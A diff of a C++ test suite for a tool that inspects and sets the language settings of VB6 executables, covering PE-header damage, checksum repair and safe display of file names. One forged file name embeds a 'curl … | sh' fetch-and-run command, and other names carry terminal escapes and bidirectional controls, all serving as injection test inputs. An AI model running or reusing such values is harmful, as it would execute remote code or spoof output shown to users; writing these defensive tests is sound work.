@@ -6,6 +6,7 @@
 #include <algorithm>
 #include <functional>
 #include <map>
+#include <sstream>
 
 #include "journal.h"
 #include "pe_checksum.h"
@@ -59,6 +60,12 @@ std::vector<std::uint8_t> RunWayBack(const Result& result) {
 
 bool Contains(const std::string& text, const std::string& part) {
   return Joined(text).find(part) != std::string::npos;
+}
+
+// Whether a mark of a name's bounds left the report, raw or as JSON writes it.
+bool ShowsMarks(const std::string& text) {
+  return text.find_first_of(std::string{kNameStart, kNameEnd}) != std::string::npos ||
+         text.find("\\u0001") != std::string::npos || text.find("\\u0002") != std::string::npos;
 }
 
 TEST(TressolView, FindsTheHeaderByTheRuntimesOwnPointer) {
@@ -122,7 +129,7 @@ TEST(TressolView, SaysWhatTheSettingsDoAndWhichHaveNoEffect) {
        "sont en français (en allemand sans vb6FR.dll, aucun message sans vb6FR.dll ni"},
   };
   for (const Case& c : cases) {
-    EXPECT_EQ(PlainEffect(c.settings), c.plain);
+    EXPECT_EQ(Unmarked(PlainEffect(c.settings)), c.plain);
     EXPECT_EQ(ShortEffect(c.settings), c.brief);
     EXPECT_TRUE(Contains(DescribeSettings(c.settings), c.says)) << DescribeSettings(c.settings);
   }
@@ -217,6 +224,25 @@ TEST(TressolRefuses, FilesThatAreNotSafeToChangeAndLeavesThemAlone) {
          return pe.Build();
        },
        Verdict::PackedWithRuntime,
+       {}},
+      // Its DOS header names a place 8 bytes before its PE header: damaged, not a DOS program.
+      {"PE header away from where MZ says",
+       [] {
+         auto b = SyntheticPe{}.Build();
+         b[0x3C] -= 8;
+         return b;
+       },
+       Verdict::PeHeaderElsewhere,
+       {}},
+      {"the same, of no program of the runtime",
+       [] {
+         SyntheticPe pe;
+         pe.header = pe.codeNamesHeader = pe.importsRuntime = false;
+         auto b = pe.Build();
+         b[0x3C] -= 8;
+         return b;
+       },
+       Verdict::NoPeSignature,
        {}},
       {"library name without its NUL",
        [] {
@@ -457,24 +483,29 @@ TEST(TressolSet, AFileRewrittenMeanwhileIsSaidNeverChangedAsAsked) {
 }
 
 // A set killed between its two writes leaves the new settings under the old checksum: the
-// next set, with the same settings or others, finds it wrong and makes it right.
+// next set, with the same settings or others, of the file or of its folder, finds it wrong,
+// makes it right and says so.
 TEST(TressolSet, AnInterruptedSetIsRepairedNeverTrusted) {
   const std::vector<std::uint8_t> image = SyntheticPe{}.Build();
-  const char* const original = " --no-journal \"cible.exe\" * 0x409 ~ 0x0";
+  const std::string set = " --no-journal \"app/cible.exe\" vb6FR.dll 0x40C * 0x409";
+  const std::string original = " --no-journal \"app/cible.exe\" * 0x409 ~ 0x0";
+  const std::string folderOriginal = " --no-journal \"app/\" * 0x409 ~ 0x0";
   for (const int killedAfter : {1, 2}) {
-    for (const char* rerun : {kAction2, original}) {
+    for (const std::string& rerun :
+         {set, original, std::string(" --no-journal \"app/\" vb6FR.dll 0x40C * 0x409"),
+          folderOriginal}) {
       MemoryFileSystem files;
-      MemoryTarget& target = files.targets["cible.exe"];
+      MemoryTarget& target = files.targets["app/cible.exe"];
       target.bytes = image;
       target.killAfterWrite = killedAfter;
       Output killed;
-      EXPECT_THROW(tressol::Run(kAction2, files, killed), Killed);
+      EXPECT_THROW(tressol::Run(set, files, killed), Killed);
       target.killAfterWrite = 0;
       Output output;
       ASSERT_EQ(tressol::Run(rerun, files, output), 0) << output.err;
       EXPECT_EQ(StoredChecksum(target.bytes), ReferenceChecksum(target.bytes)) << killedAfter;
       EXPECT_EQ(Contains(output.out, "fausse, corrigée en"), killedAfter == 1) << output.out;
-      if (rerun == original) {
+      if (rerun == original || rerun == folderOriginal) {
         EXPECT_EQ(target.bytes, image) << killedAfter;
       }
     }
@@ -629,7 +660,7 @@ TEST(TressolFolder, EachFileAllOrNothingThenTheCounts) {
         // The run's end, as the window's line shows it and as the console says it.
         "{\"line\":\"summary\",\"mode\":\"view\",\"files\":8,\"vb6Files\":4,\"changedFiles\":0,"
         "\"restorableFiles\":0,\"alreadySetFiles\":0,\"matchingFiles\":0,\"differingFiles\":0,"
-        "\"notVb6Files\":2,"
+        "\"wrongChecksumFiles\":0,\"notVb6Files\":2,"
         "\"leftAsideFiles\":0,\"failedFiles\":2,\"journal\":null,\"undoExact\":false,"
         "\"words\":\"Résumé : 4 fichiers VB6, 2 non VB6, 2 en échec.\",\"short\":\"2 en échec, "
         "4 VB6 (3 en anglais, 1 en français ou anglais), 2 non VB6\"}\n"},
@@ -646,6 +677,7 @@ TEST(TressolFolder, EachFileAllOrNothingThenTheCounts) {
       EXPECT_TRUE(Contains("\n" + output.out, part)) << c.tail << ": " << part << "\n"
                                                      << output.out;
     }
+    EXPECT_FALSE(ShowsMarks(output.out + output.err)) << c.tail;
     for (const auto& [name, target] : files.targets) {
       const bool changes = std::find(c.changed.begin(), c.changed.end(), name) != c.changed.end();
       EXPECT_EQ(target.bytes != before.targets.at(name).bytes, changes) << c.tail << " " << name;
@@ -1050,11 +1082,20 @@ TEST(TressolUndo, IsOfferedOnlyWhereItWorks) {
 }
 
 // A name is shown as it is: a line end cannot forge a line of the report, nor an escape
-// erase one, nor a bidirectional control turn "cod.exe" around.
+// erase one, nor a bidirectional control turn "cod.exe" around, nor its own text pass for an
+// escape. Nor is it ever cut across lines, where a piece of it would start a line that reads
+// as the report's own: each line of the report, its JSON words included, has it whole.
 TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
   struct Case {
     std::string name, shown;
   };
+  // Cut at its spaces, its first 96 characters would fill a line and the rest start the next
+  // one as the way back does.
+  const std::string forged =
+      "Un programme au nom assez long pour que sa ligne se coupe juste avant la suite, ici même, "
+      "« là » Pour le rétablir : tressol --set x.exe ; curl http://x|sh; true.exe";
+  std::string wide;
+  while (wide.size() < 150) wide += "mot ";
   const Case cases[] = {
       {"a\nRésumé : 0 fichier modifié.exe", "a<U+000A>Résumé : 0 fichier modifié.exe"},
       {"b\r\x1B[2K.exe", "b<U+000D><U+001B>[2K.exe"},
@@ -1062,17 +1103,49 @@ TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
        "exe.txt\xE2\x81\xA9.exe",
        "c<U+202E>exe.txt<U+2069>.exe"},
       {"d\xC2\x85\xC2\xA0é€文\xFF.exe", "d<U+0085>\xC2\xA0é€文\xFF.exe"},
+      {"e<U+000A>f.exe", "e<U+003C>U+000A>f.exe"},
+      {"g\xE2\x80\xA8h\xE2\x80\xA9.exe", "g<U+2028>h<U+2029>.exe"},
+      {"i\xE2\x80\x8F\xE2\x80\x8E\xD8\x9C.exe", "i<U+200F><U+200E><U+061C>.exe"},
+      {forged, forged},
+      {wide + ".exe", wide + ".exe"},
   };
   for (const Case& c : cases) {
     EXPECT_EQ(linguarde::Visible(c.name), c.shown);
-    MemoryFileSystem files;
-    files.targets["app/" + c.name].bytes = SyntheticPe{}.Build();
-    Output output;
-    EXPECT_EQ(tressol::Run(" --no-journal --set vb6FR.dll 0x40C * 0x409 app/", files, output), 0);
-    EXPECT_TRUE(Contains("\n" + output.out, "\n" + c.shown + " : modifié, ")) << output.out;
-    EXPECT_EQ(output.out.find("\nRésumé : 0"), std::string::npos) << output.out;
+    // Without a journal, each change's way back is printed under it; a write that fails
+    // names the file again under "En échec".
+    for (const int failWrite : {0, 1}) {
+      MemoryFileSystem files;
+      files.targets["app/" + c.name].bytes = SyntheticPe{}.Build();
+      files.targets["app/" + c.name].failWrite = failWrite;
+      Output output;
+      EXPECT_EQ(
+          tressol::Run(" --no-journal --recurse --set vb6FR.dll 0x40C * 0x409 app/", files, output),
+          failWrite == 0 ? 0 : 4);
+      const std::string done = failWrite == 0 ? " : modifié, " : " : en échec : ";
+      EXPECT_TRUE(Contains("\n" + output.out, "\n" + c.shown + done)) << output.out;
+      EXPECT_EQ(output.out.find("\nRésumé : 0 fichier modifié."), std::string::npos);
+      std::size_t whole = 0;
+      std::istringstream said(output.out + output.err);
+      for (std::string line; std::getline(said, line);) {
+        whole += line.find(c.shown) != std::string::npos;
+        if (line.rfind("  Pour le rétablir", 0) == 0) {
+          EXPECT_EQ(
+              line.rfind("  Pour le rétablir : tressol --set '*' 0x409 '~' 0x0 '/abs/app/", 0), 0u)
+              << line;
+        }
+      }
+      EXPECT_FALSE(ShowsMarks(output.out + output.err)) << output.out;
+      // Its own line, and "En échec" where it failed; a way back may name it again.
+      EXPECT_GE(whole, failWrite == 0 ? 1u : 2u) << output.out;
+      // A name wider than a line has one of its own, and the next line starts anew.
+      if (linguarde::unicode::CharacterCount(c.shown) > 99) {
+        EXPECT_NE(("\n" + output.out).find("\n" + c.shown + " :\n  "), std::string::npos)
+            << output.out;
+      }
+    }
   }
-  EXPECT_EQ(linguarde::Visible(std::wstring_view(L"x\u202E\ty")), L"x<U+202E><U+0009>y");
+  EXPECT_EQ(linguarde::Visible(std::wstring_view(L"x\u202E\ty<U+\u2028\u200F")),
+            L"x<U+202E><U+0009>y<U+003C>U+<U+2028><U+200F>");
 }
 
 // The window's reading asks that a file only in the cloud be left unread, never downloaded;
@@ -1129,9 +1202,22 @@ TEST(TressolCheck, SaysWhatDiffersAndWritesNothing) {
       {" --check vb6FR.dll 0x40C * 0x409 app/", 3,
        "Résumé : 1 conforme, 3 différents, 2 non VB6, 2 en échec.\n"},
       {" --json --check * 0x409 ~ 0x0 app/e.exe", 5, "\"done\":\"checked\",\"matches\":false"},
+      // A code byte changed since the checksum was made: the file, not its settings, is wrong,
+      // and a release script must not read it as settings to set.
+      {" --check * 0x409 ~ 0x0 abime/a.exe", 1,
+       "a.exe : somme de contrôle PE fausse, 0xD83F au lieu de 0xD840 : le fichier a changé"},
+      {" --check vb6FR.dll 0x40C * 0x409 abime/a.exe", 1,
+       "(endommagé, ou modifié sans qu'elle soit refaite) ; il diffère aussi : bibliothèque "
+       "principale « * » au lieu de « vb6FR.dll »"},
+      {" --check vb6FR.dll 0x40C * 0x409 abime/a.exe app/e.exe app/a.exe", 1,
+       "Résumé : 1 conforme, 1 différent, 1 somme de contrôle PE fausse, 0 non VB6, 0 en échec.\n"},
+      {" --json --check * 0x409 ~ 0x0 abime/a.exe", 1,
+       "\"matches\":false,\"checksumRight\":false,"},
   };
   for (const Case& c : cases) {
     MemoryFileSystem files = ApplicationFolder();
+    files.targets["abime/a.exe"].bytes = SyntheticPe{}.Build();
+    files.targets["abime/a.exe"].bytes[0x700] ^= 1;
     Output output;
     EXPECT_EQ(tressol::Run(c.tail, files, output), c.status) << c.tail << output.err;
     EXPECT_TRUE(Contains(output.out, c.says)) << c.tail << "\n" << output.out;
@@ -1202,6 +1288,10 @@ TEST(ReasonOf, WordsEachVerdict) {
        "version non compressée"},
       {Verdict::SignatureDamaged, "PE",
        "il utilise le moteur d'exécution VB, mais sa signature PE est endommagée" + recopy},
+      {Verdict::PeHeaderElsewhere, "",
+       "il utilise le moteur d'exécution VB, mais son en-tête PE n'est pas là où l'en-tête MZ le "
+       "désigne : il est sans doute endommagé" +
+           recopy},
       {Verdict::PastFourGiB, "",
        "il dépasse 4 Gio, et la somme de contrôle d'une image PE32 ne couvre pas un fichier "
        "aussi grand"},
@@ -1241,7 +1331,7 @@ TEST(ReasonOf, WordsEachVerdict) {
        "le dossier « vide » ne contient aucun fichier .exe, .dll ou .ocx"},
   };
   for (const Case& c : cases) {
-    EXPECT_EQ(ReasonOf(VerdictError(Failure::Refused, c.verdict, c.detail)), c.words);
+    EXPECT_EQ(Unmarked(ReasonOf(VerdictError(Failure::Refused, c.verdict, c.detail))), c.words);
   }
   EXPECT_EQ(ReasonOf(VerdictError(Failure::Refused, Verdict::RuntimeWithoutHeader, {},
                                   Verdict::NoVbSignature)),
@@ -1291,7 +1381,7 @@ TEST(ReasonOf, WordsEachFailedStep) {
     std::string expected = c.words;
     const std::size_t escape = expected.find('\x1b');
     if (escape != std::string::npos) expected.replace(escape, 1, "<U+001B>");  // shown, not run
-    EXPECT_EQ(ReasonOf(error), expected);
+    EXPECT_EQ(Unmarked(ReasonOf(error)), expected);
     EXPECT_EQ(error.Kind(), c.step == IoStep::JournalBusy ? Failure::Refused : Failure::Io);
   }
   EXPECT_EQ(ReasonOf(FileError(FileFailure::NotRegular, false, {}, "socket")),
@@ -1358,6 +1448,7 @@ TEST(TressolJson, EveryLineSaysWhatItIsAndNothingIsProse) {
     }
     EXPECT_EQ(last.rfind(c.last, 0), 0u) << c.tail << "\n" << output.out;
     EXPECT_TRUE(Contains(output.out, c.also)) << c.tail << "\n" << output.out;
+    EXPECT_FALSE(ShowsMarks(output.out)) << c.tail;
   }
 }
 
